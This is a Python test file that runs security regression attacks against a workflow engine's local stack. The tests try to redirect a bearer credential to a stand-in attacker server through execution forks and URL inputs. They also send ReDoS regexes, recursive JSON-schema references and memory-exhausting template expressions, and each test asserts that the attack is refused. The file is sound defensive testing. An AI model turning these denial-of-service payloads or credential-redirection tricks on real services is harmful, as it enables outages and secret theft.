"""Attacks on a live stack, over HTTP, with the rights that the attacker would have.

The stack is the one that `make up` starts. Each attack succeeded once. What is checked is what the
attacker wants: that a credential arrives elsewhere, that others have to wait, that a process grows.
"""

import http.server
import itertools
import threading
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import httpx
import psutil
import pytest

from tests.support.pages import sign_in
from tests.support.prepared_home import prepared_home
from tests.support.stack import Stack
from tests.support.waiting import wait_until

pytestmark = pytest.mark.timeout(400)
HERE = "127.0.0.77"  # what steps of this stack may reach
SECRET = "canary-77af01"
ENDED = {"SUCCESS", "FAILED", "CANCELLED", "TIMEOUT"}
MIB = 1024 * 1024
GROWTH = 256 * MIB
NUMBERS = itertools.count()


class Partner:
    """An HTTP server that keeps the requests it got."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, bytes]] = []
        seen = self.seen

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                seen.append((self.path, self.headers.get("Authorization", ""), body))
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"{}")

            def do_GET(self) -> None:
                self.do_POST()

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self._server = http.server.ThreadingHTTPServer((HERE, 0), Handler)
        self.port = self._server.server_address[1]
        self.url = f"http://{HERE}:{self.port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


class Person:
    """Somebody with a token, asking the stack."""

    def __init__(self, stack: Stack, token: str) -> None:
        self.client = httpx.Client(
            base_url=stack.url, headers={"Authorization": f"Bearer {token}"}, timeout=90
        )

    def post(self, path: str, body: Any) -> httpx.Response:
        return self.client.post(path, json=body)

    def get(self, path: str) -> Any:
        return self.client.get(path).raise_for_status().json()

    def published(self, definition: Mapping[str, Any]) -> str:
        """The id of a workflow that was imported and published."""
        made = self.post("/v1/Workflow", {"name": definition["name"], "definition": definition})
        assert made.status_code == 201, made.text
        done = self.post(f"/v1/Workflow/{made.json()['id']}/publish", {})
        assert done.is_success, done.text
        return str(made.json()["id"])

    def executed(self, workflow: str, params: Any = None) -> str:
        done = self.post(f"/v1/WorkflowExecution/{workflow}/execute", {"params": params or {}})
        assert done.status_code == 202, done.text
        return str(done.json()["id"])

    def end_of(self, execution: str, seconds: float = 120) -> Any:
        """The execution, once it ended."""
        found: dict[str, Any] = {}

        def ended() -> bool:
            found.update(self.get(f"/v1/WorkflowExecution/{execution}"))
            return found["state"] in ENDED

        wait_until(ended, seconds, f"the end of execution {execution}")
        return found


@pytest.fixture(scope="module")
def stack(pytestconfig: pytest.Config) -> Iterator[Stack]:
    with prepared_home(pytestconfig) as home, Stack(home) as up:
        up.wait_ready(300)
        yield up


@pytest.fixture(scope="module")
def admin(stack: Stack) -> Person:
    return Person(stack, sign_in(stack))


@pytest.fixture(scope="module")
def program(stack: Stack, admin: Person) -> Person:
    """The token that docs/api.md recommends for programs: it may trigger, and no more."""
    account = admin.post("/v1/ServiceAccount", {"name": "shop"}).json()
    made = admin.post(
        "/v1/ApiToken",
        {"name": "shop", "serviceAccountId": account["id"], "scopes": ["trigger"]},
    )
    assert made.status_code == 201, made.text
    return Person(stack, made.json()["token"])


@pytest.fixture
def partner() -> Iterator[Partner]:
    made = Partner()
    yield made
    made.close()


@pytest.fixture
def attacker() -> Iterator[Partner]:
    made = Partner()
    yield made
    made.close()


def memory(stack: Stack, words: str) -> dict[int, int]:
    """The largest resident size so far of the processes of that command line, by pid."""
    found = {}
    for process in stack.family():
        try:
            if words in " ".join(process.cmdline()):
                status = Path(f"/proc/{process.pid}/status").read_text()
                found[process.pid] = 1024 * int(status.partition("VmHWM:")[2].split()[0])
        except (psutil.NoSuchProcess, FileNotFoundError, ValueError):
            continue
    return found


PAYMENT = {
    "schema": "valkyr/1",
    "name": "payment",
    "tasks": [
        {"id": "ask", "use": "flow.approval", "with": {"title": "Pay {{ input.euros }}?"}},
        {
            "id": "pay",
            "use": "http.request",
            "after": "ask:approved",
            "credential": "bank",
            "with": {"method": "POST", "url": "{{ input.url }}", "json": "{{ input }}"},
        },
    ],
}


def test_a_token_that_may_trigger_steals_no_credential_and_passes_no_approval(
    admin: Person, program: Person, partner: Partner, attacker: Partner
) -> None:
    made = admin.post(
        "/v1/Credential",
        {"name": "bank", "type": "bearer", "fields": {"token": SECRET}, "hosts": ["*"]},
    )
    assert made.status_code == 201, made.text
    workflow = admin.published(PAYMENT)
    origin = program.executed(workflow, {"euros": 1, "url": partner.url})
    fork = f"/v1/WorkflowExecution/{origin}/fork"
    elsewhere = {"pay.main": {"url": attacker.url}}

    unknown = program.post(fork, {"overrides": {"steps": {"no.such": {}}}})
    stolen = program.post(fork, {"stepPath": "pay.main", "overrides": {"steps": elsewhere}})
    behind = program.post(fork, {"stepPath": "pay.main", "overrides": {"input": {"euros": 9_999}}})

    assert [answer.status_code for answer in (unknown, stolen, behind)] == [403, 403, 403]
    assert "pay.main" not in unknown.text
    assert attacker.seen == partner.seen == []


def test_nobody_leads_a_credential_to_a_host_of_his_own(
    admin: Person, program: Person, partner: Partner, attacker: Partner
) -> None:
    hosts = [f"{HERE}:{partner.port}"]
    fields = {"token": SECRET}
    made = admin.post(
        "/v1/Credential", {"name": "till", "type": "bearer", "fields": fields, "hosts": hosts}
    )
    assert made.status_code == 201, made.text
    pay: dict[str, Any] = {"id": "pay", "use": "http.request", "credential": "till"}
    pay["retry"] = "none"
    pay["with"] = {"url": "{{ input.url }}"}
    document: dict[str, Any] = {"schema": "valkyr/1", "name": "till", "tasks": [pay]}
    workflow = admin.published(document)
    written = pay | {"with": {"url": attacker.url}}

    honest = admin.end_of(program.executed(workflow, {"url": partner.url}))
    stolen = program.executed(workflow, {"url": attacker.url})
    refused = admin.post("/v1/Workflow/validate", {"definition": document | {"tasks": [written]}})

    assert honest["state"] == "SUCCESS"
    assert admin.end_of(stolen)["state"] == "FAILED"
    assert [problem["code"] for problem in refused.json()["problems"]] == ["credential_refused"]
    assert [token for _, token, _ in partner.seen] == [f"Bearer {SECRET}"]
    assert attacker.seen == []


@pytest.mark.parametrize(
    ("schema", "payload"),
    [
        (
            {"properties": {"a": {"pattern": r"^([a-zA-Z0-9_.-]+)*@example\.com$"}}},
            {"a": "a" * 40},
        ),
        (
            {
                "$ref": "#/$defs/p0",
                "$defs": {
                    **{f"p{n}": {"allOf": [{"$ref": f"#/$defs/p{n + 1}"}] * 2} for n in range(40)},
                    "p40": {"required": ["b"]},
                },
            },
            {"b": 1},
        ),
        (
            {"properties": {"a": {"uniqueItems": True}}},
            {"a": [[n] if n % 2 else {"n": n} for n in range(2_500)] + [[1]]},
        ),
    ],
    ids=["pattern", "references", "unique"],
)
def test_no_payload_stops_the_web_process(
    admin: Person, program: Person, schema: dict[str, Any], payload: dict[str, Any]
) -> None:
    tasks = [{"id": "a", "use": "flow.noop"}]
    name = f"checked-{next(NUMBERS)}"
    workflow = admin.published(
        {"schema": "valkyr/1", "name": name, "input": schema, "tasks": tasks}
    )
    address = f"/v1/WorkflowExecution/{workflow}/execute"
    answers: list[httpx.Response] = []
    asking = threading.Thread(
        target=lambda: answers.append(program.post(address, {"params": payload}))
    )

    asking.start()
    alive = admin.client.get("/actuator/health/live")
    asking.join(60)

    assert alive.status_code == 200
    assert [answer.status_code for answer in answers] == [422]


def test_a_pattern_that_cannot_be_matched_in_linear_time_is_refused_when_published(
    admin: Person,
) -> None:
    schema = {"properties": {"a": {"pattern": r"(a)\1"}}}
    tasks = [{"id": "a", "use": "flow.noop"}]
    definition = {"schema": "valkyr/1", "name": "backwards", "input": schema, "tasks": tasks}
    made = admin.post("/v1/Workflow", {"name": "backwards", "definition": definition}).json()

    answer = admin.post(f"/v1/Workflow/{made['id']}/publish", {})

    assert answer.status_code == 422
    assert "backreference" in answer.text


NESTED = "[[[['a'] * 100] * 100] * 100] * 100"
GREEDY = [
    f"{NESTED} == {NESTED}",
    '"%(a)1500000000s" % {"a": 1}',
    r'"\t".expandtabs(tabsize=2000000000)',
    '(["a" * 1000000] * 100000) | tojson',
    '("%s" * 100000) % (range(100000) | list)',
    "('a' * 1000000).rsplit('ab' + 'a' * 400000)",
]


def test_no_template_stops_a_worker_or_fills_a_process(
    stack: Stack, admin: Person, partner: Partner
) -> None:
    before = memory(stack, "worker") | memory(stack, "valkyr_project.http.server")
    bystander = admin.published(
        {
            "schema": "valkyr/1",
            "name": "bystander",
            "tasks": [{"id": "call", "use": "http.request", "with": {"url": partner.url}}],
        }
    )
    hostile = [
        admin.executed(
            admin.published(
                {
                    "schema": "valkyr/1",
                    "name": f"greedy-{number}",
                    "tasks": [
                        {
                            "id": "call",
                            "use": "http.request",
                            "timeoutSeconds": 5,
                            "with": {
                                "url": partner.url,
                                "method": "POST",
                                "body": f"{{{{ {text} }}}}",
                            },
                        }
                    ],
                }
            )
        )
        for number, text in enumerate(GREEDY)
    ]
    innocent = admin.executed(bystander)

    assert admin.end_of(innocent)["state"] == "SUCCESS"
    assert {admin.end_of(execution)["state"] for execution in hostile} == {"FAILED"}
    for execution in hostile:
        admin.post(f"/v1/WorkflowExecution/{execution}/replay", {"verify": True})
    after = memory(stack, "worker") | memory(stack, "valkyr_project.http.server")
    assert {pid: after[pid] - before[pid] for pid in before if pid in after}.keys() == before.keys()
    assert all(after[pid] - before[pid] < GROWTH for pid in before), (before, after)
